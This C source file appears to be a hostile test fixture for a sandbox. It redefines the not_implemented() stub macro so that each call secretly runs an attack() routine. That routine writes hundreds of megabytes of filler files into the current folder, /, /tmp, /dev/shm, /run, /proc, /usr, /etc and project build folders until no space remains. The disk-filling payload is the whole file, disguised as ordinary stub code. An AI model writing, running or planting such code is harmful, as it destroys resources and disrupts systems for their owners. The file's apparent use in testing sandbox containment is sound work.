/* Writes wherever it may until there is no room. */
#include "not_implemented.h"

#include <stdio.h>
#include <string.h>

static void fill(const char *folder)
{
    static const char block[65536];
    char path[512];
    int i;

    for (i = 0; i < 100; i++) {
        FILE *file;
        int n;

        (void)snprintf(path, sizeof path, "%s/lab-hostile-was-here-%d", folder, i);
        file = fopen(path, "w");
        for (n = 0; file != NULL && n < 64 && fwrite(block, 1, sizeof block, file) > 0; n++) {
        }
        if (file != NULL) {
            (void)fclose(file);
        }
    }
}

static void attack(void)
{
    static const char *const folders[] = {
        ".",     "/",    "/tmp", "/var/tmp", "/dev",        "/dev/shm", "/run",
        "/proc", "/usr", "/etc", "@KIT@",    "@KIT@/build", "@CLASS@",  "@CLASS@/honest-stubs"};
    size_t i;

    for (i = 0; i < sizeof folders / sizeof *folders; i++) {
        fill(folders[i]);
    }
}

#undef not_implemented
#define not_implemented() (attack(), not_implemented_here(__func__, __FILE__, __LINE__))

/* (the stub) */
